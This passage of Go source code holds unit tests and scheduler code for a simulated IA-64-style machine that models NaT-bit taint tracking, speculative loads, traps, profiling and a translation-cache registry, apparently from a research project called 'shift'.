	m.MapRegion(0, 0)
	m.MapRegion(1, 0)
	m.MapRegion(2, 0)
	if f := m.WriteBytes(p.DataBase, p.Data); f != nil {
		t.Fatalf("loading data: %v", f)
	}
	mach := New(p, m)
	mach.Feat = feat
	mach.OS = exitOnlyOS{}
	mach.GR[isa.RegSP] = int64(mem.Addr(2, 0x10000))
	if setup != nil {
		setup(mach)
	}
	trap := mach.Run()
	return mach, trap
}

// exitOnlyOS handles just the exit syscall; tests that need more install
// their own handler.
type exitOnlyOS struct{}

func (exitOnlyOS) Syscall(m *Machine, num int64) (uint64, *Trap) {
	if num == isa.SysExit {
		m.Halt(m.GR[isa.RegArg0])
		return 0, nil
	}
	return 0, &Trap{Kind: TrapHostError, PC: m.PC, Ins: "syscall"}
}

func TestArithmeticAndExit(t *testing.T) {
	m, trap := run(t, `
	movl r1 = 100
	movl r2 = 0
again:
	add r2 = r2, r1
	addi r1 = r1, -1
	cmpi.gt p6, p7 = r1, 0
	(p6) br again
	mov r32 = r2
	syscall 1
`, Features{}, nil)
	if trap != nil {
		t.Fatal(trap)
	}
	if m.ExitStatus != 5050 {
		t.Errorf("sum = %d, want 5050", m.ExitStatus)
	}
	if m.Cycles == 0 || m.Retired == 0 {
		t.Error("no accounting recorded")
	}
}

func TestNaTPropagationThroughALU(t *testing.T) {
	// A NaT'd register contaminates every dependent computation.
	m, trap := run(t, `
	movl r1 = 7
	add r2 = r1, r127    ; r127 NaT'd by setup
	shli r3 = r2, 4
	and r4 = r3, r1
	mov r5 = r4
	mov r32 = r0
	syscall 1
`, Features{}, func(m *Machine) {
		m.NaT[127] = true
	})
	if trap != nil {
		t.Fatal(trap)
	}
	for _, r := range []int{2, 3, 4, 5} {
		if !m.NaT[r] {
			t.Errorf("r%d lost the NaT token", r)
		}
	}
	if m.NaT[1] {
		t.Error("r1 gained a NaT token")
	}
}

func TestXorSubClearIdioms(t *testing.T) {
	// xor r,a,a and sub r,a,a clear the token (paper §3.2).
	m, trap := run(t, `
	xor r2 = r127, r127
	sub r3 = r127, r127
	mov r32 = r0
	syscall 1
`, Features{}, func(m *Machine) {
		m.NaT[127] = true
		m.GR[127] = 99
	})
	if trap != nil {
		t.Fatal(trap)
	}
	if m.NaT[2] || m.NaT[3] || m.GR[2] != 0 || m.GR[3] != 0 {
		t.Errorf("clear idioms failed: r2=%d nat=%v r3=%d nat=%v", m.GR[2], m.NaT[2], m.GR[3], m.NaT[3])
	}
}

func TestNaTSensitiveCompareClearsBothPredicates(t *testing.T) {
	m, trap := run(t, `
	cmpi.eq p6, p7 = r127, 0
	mov r32 = r0
	syscall 1
`, Features{}, func(m *Machine) {
		m.NaT[127] = true
		m.PR[6] = true
		m.PR[7] = true
	})
	if trap != nil {
		t.Fatal(trap)
	}
	if m.PR[6] || m.PR[7] {
		t.Error("NaT-sensitive compare left a predicate set")
	}
}

func TestNaTAwareCompare(t *testing.T) {
	src := `
	cmpi.na.eq p6, p7 = r127, 5
	mov r32 = r0
	syscall 1
`
	// Without the feature: illegal instruction.
	_, trap := run(t, src, Features{}, nil)
	if trap == nil || trap.Kind != TrapIllegal {
		t.Fatalf("cmp.na without feature: trap = %v", trap)
	}
	// With it: compares values, ignoring NaT.
	m, trap := run(t, src, Features{NaTAwareCmp: true}, func(m *Machine) {
		m.NaT[127] = true
		m.GR[127] = 5
	})
	if trap != nil {
		t.Fatal(trap)
	}
	if !m.PR[6] || m.PR[7] {
		t.Error("cmp.na did not evaluate the values")
	}
}

func TestSpeculativeLoadDefersFault(t *testing.T) {
	// ld8.s from an unmapped address must set NaT instead of trapping —
	// this is how SHIFT manufactures its taint-source register (§4.3).
	m, trap := run(t, `
	movl r1 = 12345        ; region 0 offset: mapped? use a wild address
	movl r1 = 0x3000000000000000
	ld8.s r2 = [r1]
	mov r32 = r0
	syscall 1
`, Features{}, nil)
	if trap != nil {
		t.Fatal(trap)
	}
	if !m.NaT[2] || m.GR[2] != 0 {
		t.Errorf("ld8.s: r2 = %d nat=%v, want 0 with NaT", m.GR[2], m.NaT[2])
	}
}

func TestSpeculativeLoadFromNaTAddress(t *testing.T) {
	m, trap := run(t, `
	ld8.s r2 = [r127]
	mov r32 = r0
	syscall 1
`, Features{}, func(m *Machine) { m.NaT[127] = true })
	if trap != nil {
		t.Fatal(trap)
	}
	if !m.NaT[2] {
		t.Error("speculative load from NaT address did not defer")
	}
}

func TestPlainLoadStripsNaT(t *testing.T) {
	// SHIFT clears a token by spilling and reloading with a plain ld.
	m, trap := run(t, `
	.data
scratch: .space 8
	.text
	movl r1 = scratch
	st8.spill [r1] = r127, 3
	ld8 r2 = [r1]
	mov r32 = r0
	syscall 1
`, Features{}, func(m *Machine) {
		m.NaT[127] = true
		m.GR[127] = 42
	})
	if trap != nil {
		t.Fatal(trap)
	}
	if m.NaT[2] {
		t.Error("plain load preserved NaT")
	}
	if m.GR[2] != 42 {
		t.Errorf("value lost through spill: %d", m.GR[2])
	}
	if m.UNAT>>3&1 != 1 {
		t.Error("spill did not record the NaT bit in UNAT")
	}
}

func TestSpillFillRoundTripsNaT(t *testing.T) {
	m, trap := run(t, `
	.data
scratch: .space 16
	.text
	movl r1 = scratch
	st8.spill [r1] = r127, 0
	ld8.fill r2 = [r1], 0
	st8.spill [r1] = r3, 1     ; r3 clean
	ld8.fill r4 = [r1], 1
	mov r32 = r0
	syscall 1
`, Features{}, func(m *Machine) {
		m.NaT[127] = true
		m.GR[3] = 7
	})
	if trap != nil {
		t.Fatal(trap)
	}
	if !m.NaT[2] {
		t.Error("fill did not restore NaT")
	}
	if m.NaT[4] || m.GR[4] != 7 {
		t.Errorf("clean spill/fill corrupted r4: %d nat=%v", m.GR[4], m.NaT[4])
	}
}

func TestChkSBranchesOnNaT(t *testing.T) {
	m, trap := run(t, `
	chk.s r127, recover
	movl r2 = 1          ; skipped when NaT
	br done
recover:
	movl r2 = 2
done:
	mov r32 = r2
	syscall 1
`, Features{}, func(m *Machine) { m.NaT[127] = true })
	if trap != nil {
		t.Fatal(trap)
	}
	if m.ExitStatus != 2 {
		t.Errorf("chk.s did not take recovery: exit %d", m.ExitStatus)
	}
	// Without NaT it falls through.
	m, trap = run(t, `
	chk.s r1, recover
	movl r2 = 1
	br done
recover:
	movl r2 = 2
done:
	mov r32 = r2
	syscall 1
`, Features{}, nil)
	if trap != nil {
		t.Fatal(trap)
	}
	if m.ExitStatus != 1 {
		t.Errorf("chk.s took recovery on clean register: exit %d", m.ExitStatus)
	}
}

func TestNaTConsumptionTraps(t *testing.T) {
	cases := []struct {
		name string
		src  string
		kind TrapKind
	}{
		{"load address", "ld8 r2 = [r127]\nsyscall 1\n", TrapNaTLoadAddr},
		{"store address", "st8 [r127] = r1\nsyscall 1\n", TrapNaTStoreAddr},
		{"store data", "movl r1 = 0x2000000000010000\nst8 [r1] = r127\nsyscall 1\n", TrapNaTStoreData},
		{"branch register", "mov b6 = r127\nsyscall 1\n", TrapNaTBranch},
		{"spill to NaT address", "st8.spill [r127] = r1, 0\nsyscall 1\n", TrapNaTStoreAddr},
		{"fill from NaT address", "ld8.fill r2 = [r127], 0\nsyscall 1\n", TrapNaTLoadAddr},
	}
	for _, c := range cases {
		_, trap := run(t, c.src, Features{}, func(m *Machine) { m.NaT[127] = true })
		if trap == nil || trap.Kind != c.kind {
			t.Errorf("%s: trap = %v, want %v", c.name, trap, c.kind)
		}
		if trap != nil && !trap.Kind.IsNaTConsumption() {
			t.Errorf("%s: %v not classified as NaT consumption", c.name, trap.Kind)
		}
	}
}

func TestSetClrNaTFeatureGate(t *testing.T) {
	_, trap := run(t, "setnat r2\nsyscall 1\n", Features{}, nil)
	if trap == nil || trap.Kind != TrapIllegal {
		t.Fatalf("setnat without feature: %v", trap)
	}
	m, trap := run(t, `
	movl r2 = 5
	setnat r2
	mov r3 = r2
	clrnat r2
	mov r32 = r2
	syscall 1
`, Features{SetClrNaT: true}, nil)
	if trap != nil {
		t.Fatal(trap)
	}
	if !m.NaT[3] {
		t.Error("setnat token did not propagate")
	}
	if m.NaT[2] {
		t.Error("clrnat did not clear")
	}
	if m.ExitStatus != 5 {
		t.Errorf("setnat destroyed the value: %d", m.ExitStatus)
	}
}

func TestPredication(t *testing.T) {
	m, trap := run(t, `
	movl r1 = 1
	movl r2 = 2
	cmp.lt p6, p7 = r1, r2
	(p6) movl r3 = 10
	(p7) movl r3 = 20
	mov r32 = r3
	syscall 1
`, Features{}, nil)
	if trap != nil {
		t.Fatal(trap)
	}
	if m.ExitStatus != 10 {
		t.Errorf("predication chose %d, want 10", m.ExitStatus)
	}
}

func TestPredicatedOffCostsFetchOnly(t *testing.T) {
	m, trap := run(t, `
	cmpi.eq p6, p7 = r1, 1   ; false: r1 is 0
	(p6) movl r2 = 7
	mov r32 = r0
	syscall 1
`, Features{}, nil)
	if trap != nil {
		t.Fatal(trap)
	}
	if m.GR[2] != 0 {
		t.Error("predicated-off instruction executed")
	}
}

func TestCallReturn(t *testing.T) {
	m, trap := run(t, `
	.entry main
double:
	add r8 = r32, r32
	br.ret b0
main:
	movl r32 = 21
	br.call b0 = double
	mov r32 = r8
	syscall 1
`, Features{}, nil)
	if trap != nil {
		t.Fatal(trap)
	}
	if m.ExitStatus != 42 {
		t.Errorf("call/return = %d, want 42", m.ExitStatus)
	}
}

func TestIndirectBranch(t *testing.T) {
	p, err := asm.Assemble("main:\nbr.ind b6\nmovl r32 = 1\nsyscall 1\nok:\nmovl r32 = 9\nsyscall 1\n", asm.Options{})
	if err != nil {
		t.Fatal(err)
	}
	mm := mem.New()
	mm.MapRegion(2, 0)
	mach := New(p, mm)
	mach.OS = exitOnlyOS{}
	mach.BR[6] = int64(p.Symbols["ok"])
	if trap := mach.Run(); trap != nil {
		t.Fatal(trap)
	}
	if mach.ExitStatus != 9 {
		t.Errorf("br.ind landed wrong: %d", mach.ExitStatus)
	}
}

func TestDivZeroTrap(t *testing.T) {
	_, trap := run(t, "movl r1 = 1\ndiv r2 = r1, r0\nsyscall 1\n", Features{}, nil)
	if trap == nil || trap.Kind != TrapDivZero {
		t.Fatalf("div by zero: %v", trap)
	}
}

func TestMemoryFaultTrap(t *testing.T) {
	_, trap := run(t, "movl r1 = 0x7000000000000000\nld8 r2 = [r1]\nsyscall 1\n", Features{}, nil)
	if trap == nil || trap.Kind != TrapMemFault {
		t.Fatalf("unmapped load: %v", trap)
	}
}

func TestBudgetGuard(t *testing.T) {
	p, err := asm.Assemble("loop:\nbr loop\n", asm.Options{})
	if err != nil {
		t.Fatal(err)
	}
	m := New(p, mem.New())
	m.Budget = 1000
	trap := m.Run()
	if trap == nil || trap.Kind != TrapBudget {
		t.Fatalf("budget guard: %v", trap)
	}
}

func TestR0Invariants(t *testing.T) {
	// r0 stays zero and never becomes NaT even under setnat.
	m, trap := run(t, `
	mov r32 = r0
	syscall 1
`, Features{SetClrNaT: true}, func(m *Machine) {
		// Direct attempts via setGR are blocked; check through state.
	})
	if trap != nil {
		t.Fatal(trap)
	}
	if m.GR[0] != 0 || m.NaT[0] {
		t.Error("r0 corrupted")
	}
}

// TestNaTPropagationProperty: for any chain of clean ALU ops applied to a
// register pair where exactly one side is tainted, the result is tainted;
// if neither is, the result is clean.
func TestNaTPropagationProperty(t *testing.T) {
	f := func(a, b int64, taintA, taintB bool, opIdx uint8) bool {
		ops := []string{"add", "sub", "and", "or", "xor", "shl", "mul"}
		op := ops[opIdx%uint8(len(ops))]
		src := "\t" + op + " r3 = r1, r2\n\tmov r32 = r0\n\tsyscall 1\n"
		p, err := asm.Assemble(src, asm.Options{})
		if err != nil {
			return false
		}
		m := New(p, mem.New())
		m.OS = exitOnlyOS{}
		m.GR[1], m.GR[2] = a, b
		m.NaT[1], m.NaT[2] = taintA, taintB
		if trap := m.Run(); trap != nil {
			return false
		}
		return m.NaT[3] == (taintA || taintB)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

func TestCostClassesAccumulate(t *testing.T) {
	p, err := asm.Assemble("movl r1 = 1\nadd r2 = r1, r1\nsyscall 1\n", asm.Options{})
	if err != nil {
		t.Fatal(err)
	}
	p.Text[1].Class = isa.ClassLoadCompute
	m := New(p, mem.New())
	m.OS = exitOnlyOS{}
	if trap := m.Run(); trap != nil {
		t.Fatal(trap)
	}
	if m.CyclesByClass[isa.ClassLoadCompute] == 0 {
		t.Error("classified cycles not recorded")
	}
	var sum uint64
	for _, c := range m.CyclesByClass {
		sum += c
	}
	if sum != m.Cycles {
		t.Errorf("class cycles %d != total %d", sum, m.Cycles)
	}
}

func TestInstructionMix(t *testing.T) {
	m, trap := run(t, `
	.data
w: .word8 5
	.text
	movl r1 = w
	ld8 r2 = [r1]
	st8 [r1] = r2
	cmpi.eq p6, p7 = r2, 5
	mov r32 = r0
	syscall 1
`, Features{}, func(m *Machine) { m.EnableStats() })
	if trap != nil {
		t.Fatal(trap)
	}
	loads, stores, compares, branches := m.InstructionMix()
	if loads == 0 || stores == 0 || compares == 0 {
		t.Errorf("mix lost categories: %v %v %v %v", loads, stores, compares, branches)
	}
}

func TestInstructionMixNeedsStats(t *testing.T) {
	p, err := asm.Assemble("movl r1 = 1\nmov r32 = r1\nsyscall 1\n", asm.Options{})
	if err != nil {
		t.Fatal(err)
	}
	m := New(p, mem.New())
	m.OS = exitOnlyOS{}
	if trap := m.Run(); trap != nil {
		t.Fatal(trap)
	}
	loads, stores, compares, branches := m.InstructionMix()
	if loads != 0 || stores != 0 || compares != 0 || branches != 0 {
		t.Error("InstructionMix reported values without EnableStats")
	}
}

func TestResetRewindsExecutionState(t *testing.T) {
	p, err := asm.Assemble("movl r1 = 1\nmov r32 = r1\nsyscall 1\n", asm.Options{})
	if err != nil {
		t.Fatal(err)
	}
	m := New(p, mem.New())
	m.OS = exitOnlyOS{}
	if trap := m.Run(); trap != nil {
		t.Fatal(trap)
	}
	cycles := m.Cycles
	m.Reset()
	if m.Cycles != 0 || m.Halted || m.PC != p.Entry {
		t.Error("reset incomplete")
	}
	if trap := m.Run(); trap != nil {
		t.Fatal(trap)
	}
	if m.Cycles != cycles {
		t.Errorf("non-deterministic rerun: %d vs %d", m.Cycles, cycles)
	}
}

func TestProfileCountsAndHotspots(t *testing.T) {
	p, err := asm.Assemble(`
	.entry main
main:
	movl r1 = 50
loop:
	addi r1 = r1, -1
	cmpi.gt p6, p7 = r1, 0
	(p6) br loop
	mov r32 = r0
	syscall 1
`, asm.Options{})
	if err != nil {
		t.Fatal(err)
	}
	m := New(p, mem.New())
	m.OS = exitOnlyOS{}
	m.EnableProfile()
	if trap := m.Run(); trap != nil {
		t.Fatal(trap)
	}
	hs := m.Hotspots(3)
	if len(hs) != 3 {
		t.Fatalf("hotspots: %d", len(hs))
	}
	// The loop body retires 50 times each.
	if hs[0].Count != 50 {
		t.Errorf("hottest count = %d, want 50", hs[0].Count)
	}
	if hs[0].Symbol != "loop" {
		t.Errorf("hottest symbol = %q", hs[0].Symbol)
	}
	var total uint64
	for _, c := range m.Stats.Profile {
		total += c
	}
	if total != m.Retired {
		t.Errorf("profile total %d != retired %d", total, m.Retired)
	}
	fp := m.FunctionProfile()
	if len(fp) == 0 || fp[0].Count == 0 {
		t.Error("function profile empty")
	}
	// Without EnableProfile, the helpers return nil.
	m2 := New(p, mem.New())
	if m2.Hotspots(3) != nil || m2.FunctionProfile() != nil {
		t.Error("profile helpers active without EnableProfile")
	}
}

func TestCmpxchgSemantics(t *testing.T) {
	m, trap := run(t, `
	.data
w: .word8 10
	.text
	movl r1 = w
	movl r2 = 10        ; expected value
	movl r3 = 77        ; replacement
	mov ccv = r2
	cmpxchg8 r4 = [r1], r3     ; matches: writes 77, r4 = 10
	mov ccv = r2
	cmpxchg8 r5 = [r1], r2     ; stale ccv: no write, r5 = 77
	ld8 r6 = [r1]
	mov r32 = r0
	syscall 1
`, Features{}, nil)
	if trap != nil {
		t.Fatal(trap)
	}
	if m.GR[4] != 10 {
		t.Errorf("first cmpxchg old = %d, want 10", m.GR[4])
	}
	if m.GR[5] != 77 {
		t.Errorf("second cmpxchg old = %d, want 77", m.GR[5])
	}
	if m.GR[6] != 77 {
		t.Errorf("memory = %d, want 77 (failed CAS must not write)", m.GR[6])
	}
}

func TestCmpxchgNaTConsumption(t *testing.T) {
	_, trap := run(t, "cmpxchg8 r2 = [r127], r1\nsyscall 1\n",
		Features{}, func(m *Machine) { m.NaT[127] = true })
	if trap == nil || trap.Kind != TrapNaTStoreAddr {
		t.Fatalf("NaT address: %v", trap)
	}
	_, trap = run(t, "movl r1 = 0x2000000000010000\ncmpxchg8 r2 = [r1], r127\nsyscall 1\n",
		Features{}, func(m *Machine) { m.NaT[127] = true })
	if trap == nil || trap.Kind != TrapNaTStoreData {
		t.Fatalf("NaT data: %v", trap)
	}
}

func TestCcvMoves(t *testing.T) {
	m, trap := run(t, `
	movl r1 = 123
	mov ccv = r1
	mov r2 = ccv
	mov r32 = r2
	syscall 1
`, Features{}, nil)
	if trap != nil {
		t.Fatal(trap)
	}
	if m.ExitStatus != 123 {
		t.Errorf("ccv round trip = %d", m.ExitStatus)
	}
	// Moving a NaT'd value into ar.ccv faults, like any special register.
	_, trap = run(t, "mov ccv = r127\nsyscall 1\n",
		Features{}, func(m *Machine) { m.NaT[127] = true })
	if trap == nil || !trap.Kind.IsNaTConsumption() {
		t.Fatalf("NaT into ccv: %v", trap)
	}
}
