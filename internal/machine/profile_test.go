package machine

import (
	"reflect"
	"testing"

	"shift/internal/asm"
	"shift/internal/isa"
	"shift/internal/mem"
)

// profileProg is a small counted loop with two function labels on the
// same instruction (the assembler permits several labels per line, and
// linked programs alias entry points routinely).
func profileProg(t *testing.T) *isa.Program {
	t.Helper()
	p, err := asm.Assemble(`
	.entry main
main:
zmain:
	movl r1 = 25
loop:
	addi r1 = r1, -1
	cmpi.gt p6, p7 = r1, 0
	(p6) br loop
	mov r32 = r0
	syscall 1
`, asm.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// Reset must carry the Stats collector (zeroed), not silently disable
// EnableStats/EnableProfile. Pre-fix, Reset rebuilt the Machine without
// Stats and this test failed at the nil check.
func TestResetPreservesStats(t *testing.T) {
	p := profileProg(t)
	m := New(p, mem.New())
	m.OS = exitOnlyOS{}
	st := m.EnableStats()
	m.EnableProfile()
	if trap := m.Run(); trap != nil {
		t.Fatal(trap)
	}
	if st.RetiredByOp[isa.OpAddi] == 0 || m.Stats.Profile[1] == 0 {
		t.Fatal("run collected no stats; test program broken")
	}

	m.Reset()
	if m.Stats == nil {
		t.Fatal("Reset dropped Stats: EnableStats silently undone")
	}
	if m.Stats != st {
		t.Error("Reset replaced the Stats collector instead of carrying it")
	}
	for op, c := range st.RetiredByOp {
		if c != 0 {
			t.Errorf("Reset left RetiredByOp[%d] = %d, want 0", op, c)
		}
	}
	if st.Profile == nil {
		t.Fatal("Reset dropped the profile: EnableProfile silently undone")
	}
	for pc, c := range st.Profile {
		if c != 0 {
			t.Errorf("Reset left Profile[%d] = %d, want 0", pc, c)
		}
	}

	// And the carried collector keeps counting on the next run.
	if trap := m.Run(); trap != nil {
		t.Fatal(trap)
	}
	if st.RetiredByOp[isa.OpAddi] == 0 || st.Profile[1] == 0 {
		t.Error("carried Stats collector did not count the second run")
	}
}

// Two symbols on the same pc must attribute counts identically on every
// call: the symbol table comes from a map, so without the name tie-break
// the winning label was whichever the iteration order produced. 64
// repetitions make a pre-fix mismatch essentially certain.
func TestFunctionProfileDeterministic(t *testing.T) {
	p := profileProg(t)
	m := New(p, mem.New())
	m.OS = exitOnlyOS{}
	m.EnableProfile()
	if trap := m.Run(); trap != nil {
		t.Fatal(trap)
	}
	first := m.FunctionProfile()
	if len(first) == 0 {
		t.Fatal("empty function profile")
	}
	// Ties sort by name, and the nearest-symbol rule takes the last
	// symbol at or before the pc, so "zmain" (not "main") owns the
	// shared entry — deterministically.
	for _, h := range first {
		if h.Symbol == "main" {
			t.Errorf("counts attributed to %q; the name tie-break should hand the shared pc to %q", "main", "zmain")
		}
	}
	for i := 0; i < 64; i++ {
		if got := m.FunctionProfile(); !reflect.DeepEqual(got, first) {
			t.Fatalf("call %d: nondeterministic attribution:\n got %+v\nwant %+v", i, got, first)
		}
	}
	// Hotspots shares the same table and tie-break.
	hs := m.Hotspots(10)
	for _, h := range hs {
		if h.Symbol == "main" {
			t.Errorf("Hotspots attributed pc=%d to %q, want %q", h.PC, "main", "zmain")
		}
	}
}

// The binary-search nearestSymbol must agree with the linear reference
// on every pc, including before the first symbol and past the last.
func TestNearestSymbolMatchesLinearScan(t *testing.T) {
	syms := []symAt{{2, "a"}, {2, "b"}, {5, "f"}, {9, "g"}, {9, "h"}, {9, "i"}, {17, "z"}}
	linear := func(pc int) string {
		name := ""
		for _, s := range syms {
			if s.idx > pc {
				break
			}
			name = s.name
		}
		return name
	}
	for pc := -1; pc <= 20; pc++ {
		if got, want := nearestSymbol(syms, pc), linear(pc); got != want {
			t.Errorf("nearestSymbol(pc=%d) = %q, want %q", pc, got, want)
		}
	}
	if got := nearestSymbol(nil, 3); got != "" {
		t.Errorf("nearestSymbol on empty table = %q, want \"\"", got)
	}
}

// Hotspots must truncate to n and never surface internal `.`-prefixed
// labels as symbols.
func TestHotspotsTruncationAndInternalLabels(t *testing.T) {
	p, err := asm.Assemble(`
	.entry main
main:
	movl r1 = 30
.inner:
	addi r1 = r1, -1
	cmpi.gt p6, p7 = r1, 0
	(p6) br .inner
	mov r32 = r0
	syscall 1
`, asm.Options{})
	if err != nil {
		t.Fatal(err)
	}
	m := New(p, mem.New())
	m.OS = exitOnlyOS{}
	m.EnableProfile()
	if trap := m.Run(); trap != nil {
		t.Fatal(trap)
	}
	hs := m.Hotspots(2)
	if len(hs) != 2 {
		t.Fatalf("Hotspots(2) returned %d entries", len(hs))
	}
	if hs[0].Count < hs[1].Count {
		t.Error("hotspots not sorted hottest-first")
	}
	for _, h := range hs {
		if h.Symbol != "main" {
			t.Errorf("pc=%d attributed to %q: internal label leaked or wrong symbol", h.PC, h.Symbol)
		}
	}
	for _, h := range m.FunctionProfile() {
		if len(h.Symbol) > 0 && h.Symbol[0] == '.' {
			t.Errorf("FunctionProfile surfaced internal label %q", h.Symbol)
		}
	}
}
