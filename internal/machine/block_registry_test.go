package machine

import (
	"testing"

	"shift/internal/isa"
	"shift/internal/mem"
)

// registryCaches counts the caches currently retained, via the public
// aggregate.
func registryCaches() uint64 {
	caches, _ := TranslationTotals()
	return caches
}

// distinctText builds a unique one-instruction program text per i.
func distinctText(i int) []isa.Instruction {
	return []isa.Instruction{{Op: isa.OpMovl, Dest: 1, Imm: int64(i)}, {Op: isa.OpNop}}
}

// The process-wide translation registry must not grow without bound: a
// process that keeps compiling fresh program texts (the fuzz harness, a
// pooled server) must evict cold entries at the cap. Before eviction
// existed this test failed — every distinct text was retained forever.
func TestTranslationRegistryBounded(t *testing.T) {
	prev := SetTranslationCacheLimit(8)
	defer SetTranslationCacheLimit(prev)

	before := TranslationEvictions()
	for i := 0; i < 40; i++ {
		tc := translationsFor(distinctText(1000 + i))
		if tc == nil {
			t.Fatal("nil cache")
		}
	}
	if n := registryCaches(); n > 8 {
		t.Fatalf("registry retains %d caches, cap is 8", n)
	}
	if got := TranslationEvictions() - before; got < 32 {
		t.Fatalf("evictions = %d, want >= 32 for 40 inserts at cap 8", got)
	}
}

// Attaching an existing text refreshes its LRU position: the reattached
// text must survive churn that evicts everything colder.
func TestTranslationRegistryLRUOrder(t *testing.T) {
	prev := SetTranslationCacheLimit(4)
	defer SetTranslationCacheLimit(prev)

	hot := distinctText(2000)
	hotTC := translationsFor(hot)
	for i := 0; i < 3; i++ {
		translationsFor(distinctText(2100 + i))
	}
	// Touch the hot text, then churn past the cap.
	if translationsFor(hot) != hotTC {
		t.Fatal("reattach did not hit the existing cache")
	}
	for i := 0; i < 3; i++ {
		translationsFor(distinctText(2200 + i))
	}
	if translationsFor(hot) != hotTC {
		t.Error("most-recently-used text was evicted before colder ones")
	}
}

// An evicted cache is forgotten, not poisoned: a machine already
// attached to it keeps using it through the identity fast path, while a
// fresh registry attach recompiles from scratch.
func TestTranslationRegistryEvictedStillUsable(t *testing.T) {
	prev := SetTranslationCacheLimit(1)
	defer SetTranslationCacheLimit(prev)

	text := []isa.Instruction{
		{Op: isa.OpMovl, Dest: 1, Imm: 7},
		{Op: isa.OpAddi, Dest: 2, Src1: 1, Imm: 1},
	}
	p := &isa.Program{Text: text}
	if err := p.Validate(); err != nil {
		t.Fatal(err)
	}
	m := New(p, mem.New())
	old := m.translations(text)

	// Evict it by attaching a different text at cap 1.
	translationsFor(distinctText(3000))

	if got := m.translations(text); got != old {
		t.Error("attached machine lost its cache to eviction")
	}
	// A machine attaching anew builds a fresh cache rather than
	// resurrecting the evicted one.
	other := New(p, mem.New())
	if other.translations(text) == old {
		t.Error("evicted cache came back through the registry")
	}
}
