package machine

import (
	"fmt"

	"shift/internal/isa"
)

// Scheduler time-shares one simulated core among guest threads — the
// multi-threading support the paper defers to future work (§4.4). Each
// thread is a full Machine (its own registers, NaT bits, predicates,
// UNAT) sharing the program, memory and OS model. Scheduling is
// deterministic: round-robin with a fixed cycle quantum, so every
// interleaving reproduces exactly. Quantum expiry is tag-coherent by
// default — a slice stretches to the next original-program instruction,
// so a store and its tag-update sequence retire as one atomic block
// (see Machine.UnsafePreempt for the opt-out that reproduces the
// paper's §4.4 bitmap races).
type Scheduler struct {
	// Threads[0] is the initial thread; others come from Spawn.
	Threads []*Machine
	// Quantum is the cycle budget per slice.
	Quantum uint64

	// blocked maps a thread index to the thread index it joins on.
	blocked map[int]int
}

// DefaultQuantum is used when Quantum is zero.
const DefaultQuantum = 50

// NewScheduler wraps an initial machine.
func NewScheduler(main *Machine) *Scheduler {
	main.TID = 0
	return &Scheduler{Threads: []*Machine{main}, blocked: make(map[int]int)}
}

// Spawn creates a new thread at entry with the given first argument and
// stack pointer, inheriting the main thread's configuration. It returns
// the thread id.
func (s *Scheduler) Spawn(entry int, arg int64, sp uint64) int {
	src := s.Threads[0]
	m := New(src.Prog, src.Mem)
	m.OS = src.OS
	m.Feat = src.Feat
	m.Costs = src.Costs
	m.Budget = src.Budget
	m.Hook = src.Hook
	m.UnsafePreempt = src.UnsafePreempt
	m.Engine = src.Engine
	// Share the main thread's translation cache: all threads execute the
	// same program text, so blocks compiled by any thread serve them all.
	m.tc = src.tc
	m.tcText = src.tcText
	m.PC = entry
	m.BR[0] = HaltPC // returning from the entry function halts the thread
	m.GR[isa.RegSP] = int64(sp)
	m.GR[isa.RegGP] = src.GR[isa.RegGP]
	m.GR[isa.RegArg0] = arg
	// The kept NaT source and mask registers are per-thread state the
	// instrumented prologue establishes at __start only; inherit them.
	m.GR[isa.RegNaT] = src.GR[isa.RegNaT]
	m.NaT[isa.RegNaT] = src.NaT[isa.RegNaT]
	m.GR[119] = src.GR[119]
	m.TID = len(s.Threads)
	s.Threads = append(s.Threads, m)
	return m.TID
}

// Join blocks thread tid on target until it halts. It reports whether
// target names a live thread.
func (s *Scheduler) Join(tid, target int) bool {
	if target < 0 || target >= len(s.Threads) || target == tid {
		return false
	}
	if !s.Threads[target].Halted {
		s.blocked[tid] = target
	}
	return true
}

// runnable reports whether thread i can make progress now.
func (s *Scheduler) runnable(i int) bool {
	m := s.Threads[i]
	if m.Halted {
		return false
	}
	if len(s.blocked) != 0 {
		if t, ok := s.blocked[i]; ok {
			if !s.Threads[t].Halted {
				return false
			}
			delete(s.blocked, i)
		}
	}
	return true
}

// Run executes threads round-robin until the main thread halts, any
// thread traps, or nothing can make progress (a join deadlock, reported
// as a host error).
func (s *Scheduler) Run() *Trap {
	quantum := s.Quantum
	if quantum == 0 {
		quantum = DefaultQuantum
	}
	// Single-thread fast path: while only one thread exists the sweep
	// bookkeeping below is pure overhead, so run contiguous slices
	// directly. The slice-boundary arithmetic is kept bit-identical to
	// the general sweep (sliceEnd = cycles-at-slice-start + quantum), so
	// a spawn lands on exactly the boundary it always did.
	startAt := 0
	if len(s.Threads) == 1 {
		m := s.Threads[0]
		text := m.Prog.Text
		budget := m.resolveBudget()
		for len(s.Threads) == 1 && !m.Halted {
			// A spawn mid-slice ends the slice only at its boundary, so
			// the spawned thread's first slice lands where it always did.
			if trap := m.slice(text, budget, m.Cycles+quantum); trap != nil {
				return trap
			}
			m.YieldReq = false
		}
		if m.Halted {
			return nil
		}
		// A spawn ended the fast path right after thread 0's slice, so
		// the first general sweep picks up with the spawned threads.
		startAt = 1
	}
	for {
		if s.Threads[0].Halted {
			return nil
		}
		progressed := startAt > 0 // thread 0 already ran this sweep
		for i := startAt; i < len(s.Threads); i++ {
			if !s.runnable(i) {
				continue
			}
			progressed = true
			m := s.Threads[i]
			sliceEnd := m.Cycles + quantum
			// Hoist the budget resolution and text slice out of the
			// per-instruction path for the whole slice (both are fixed
			// before a run starts).
			text := m.Prog.Text
			budget := m.resolveBudget()
			// A spawn during this slice may have appended threads; they
			// get their first slice on the next sweep.
			if trap := m.slice(text, budget, sliceEnd); trap != nil {
				return trap
			}
			m.YieldReq = false
			if i == 0 && m.Halted {
				return nil
			}
		}
		startAt = 0
		if !progressed {
			return &Trap{
				Kind: TrapHostError,
				PC:   s.Threads[0].PC,
				Ins:  "<scheduler>",
				Err:  fmt.Errorf("all %d threads blocked: join deadlock", len(s.Threads)),
			}
		}
	}
}

// TotalCycles sums cycles across threads — the single-core wall-clock of
// the time-shared execution.
func (s *Scheduler) TotalCycles() uint64 {
	var total uint64
	for _, m := range s.Threads {
		total += m.Cycles
	}
	return total
}

// TotalRetired sums retired instructions across threads.
func (s *Scheduler) TotalRetired() uint64 {
	var total uint64
	for _, m := range s.Threads {
		total += m.Retired
